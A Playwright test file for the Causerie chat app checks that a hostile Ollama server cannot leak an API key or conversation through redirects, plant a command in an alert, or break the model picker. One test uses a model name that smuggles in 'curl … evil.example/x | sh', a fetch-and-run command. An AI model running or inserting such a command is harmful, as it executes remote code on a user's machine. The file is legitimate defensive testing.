// Issue 11: a server the user connects to may be hostile. It cannot send the user's secrets or
// conversation elsewhere with a redirect, plant a command in an alert, or break the model picker.
import type { Page } from '@playwright/test';
import { startHitCounter } from '../fake-ollama/hits.mjs';
import { ask, expect, lastAnswer, startServer, test, type FakeOllama } from './fixtures';

const KEY = 'k-3f9a1c77e2';
const QUESTION = 'my confidential question about the exam';

/** Opens the app on `server` and gives its profile a custom-header key, through the Servers dialog. */
async function openWithCustomHeader(page: Page, server: FakeOllama) {
  await page.goto(`/?server=${encodeURIComponent(server.url)}`);
  await expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
  await page.getByRole('button', { name: 'Servers' }).click();
  await page
    .getByRole('button', { name: /^Edit / })
    .first()
    .click();
  await page.getByLabel('Authentication').selectOption('headers');
  await page.getByLabel('Headers (one “Name: value” per line)').fill(`X-Api-Key: ${KEY}`);
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
}

test('a redirect to another port is not followed: that port never sees the key or the question', async ({
  page,
}) => {
  const hits = await startHitCounter();
  // A permissive proxy in front (it lets X-Api-Key through CORS), which then turns hostile.
  const server = await startServer({ rate: 0, allowAnyHeaders: true });
  try {
    await openWithCustomHeader(page, server);
    expect(server.requests.some((r) => r.headers['x-api-key'] === KEY)).toBe(true);

    // 307 keeps the method and the body: following it would post the conversation to the other port.
    server.setOptions({ redirect: { to: hits.url, status: 307, paths: ['/api/chat'] } });
    await ask(page, QUESTION);
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('sent this request to another address');
    await expect(alert).toContainText('Causerie did not follow it');
    await expect(lastAnswer(page)).toHaveAttribute('data-status', 'error');

    // Every request now redirects (301 turns POST into GET, but custom headers would go along).
    server.setOptions({ redirect: { to: hits.url, status: 301 } });
    await page.getByRole('button', { name: 'Refresh models' }).click();
    await expect(alert).toContainText('sent this request to another address');

    const leaked = hits.hits.filter(
      (h) => JSON.stringify(h.headers).includes(KEY) || h.body.includes('confidential'),
    );
    expect(leaked).toEqual([]);
    expect(hits.hits).toEqual([]);
  } finally {
    await server.close();
    await hits.close();
  }
});

test('a model name that is a shell command is shown as text, with no command to paste', async ({ page }) => {
  const evil = 'llama3; curl -s http://evil.example/x | sh #';
  const server = await startServer({ rate: 0, models: [{ name: 'llama3.2' }, { name: evil }] });
  try {
    await page.goto(`/?server=${encodeURIComponent(server.url)}`);
    const picker = page.getByRole('combobox', { name: 'Model' });
    await expect(picker).toBeEnabled();
    // Ollama names without a tag get ':latest'.
    await picker.selectOption(`${evil}:latest`);
    // The server lists it but cannot run it, as a hostile server would.
    server.fault({ kind: 'status', status: 404, model: evil, times: 5 });
    await ask(page, 'hello');
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('is not on this server');
    await expect(alert).toContainText('curl -s http://evil.example/x');
    await expect(alert.locator('code')).toHaveCount(0);
    await expect(alert).not.toContainText('ollama pull');
  } finally {
    await server.close();
  }
});

test('a server listing a model twice still gives a working picker', async ({ page }) => {
  const server = await startServer({
    rate: 0,
    models: [{ name: 'llama3.2' }, { name: 'qwen3:4b' }, { name: 'llama3.2' }],
  });
  try {
    await page.goto(`/?server=${encodeURIComponent(server.url)}`);
    const picker = page.getByRole('combobox', { name: 'Model' });
    await expect(picker).toBeEnabled();
    await expect(picker.locator('option')).toHaveCount(2);
    await picker.selectOption('qwen3:4b');
    await ask(page, 'which model are you?');
    await expect(lastAnswer(page)).toHaveAttribute('data-status', 'done');
    await expect(page.getByRole('alert')).toBeEmpty();
  } finally {
    await server.close();
  }
});
